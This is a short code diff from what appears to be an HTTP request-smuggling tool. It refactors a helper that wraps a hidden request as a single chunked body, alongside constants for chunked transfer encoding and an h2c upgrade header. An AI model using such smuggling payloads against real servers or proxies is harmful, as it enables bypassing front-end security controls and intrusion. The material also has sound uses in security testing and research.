@@ -16,9 +16,9 @@ CHUNKED = b"Transfer-Encoding: chunked"
 SETTINGS = (b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA")
 
 
-def chunk(body: bytes = HIDDEN, size: bytes = b"%x", end: bytes = b"0\r\n\r\n") -> bytes:
-    """The body as one chunk, whose size is written so, and what ends the chunks."""
-    return size % len(body) + b"\r\n" + body + b"\r\n" + end
+def chunk(size: bytes = b"%x", end: bytes = b"0\r\n\r\n") -> bytes:
+    """The request in disguise as one chunk, whose size is written so, and what ends the chunks."""
+    return size % len(HIDDEN) + b"\r\n" + HIDDEN + b"\r\n" + end
 
 
 @dataclass(frozen=True, slots=True)
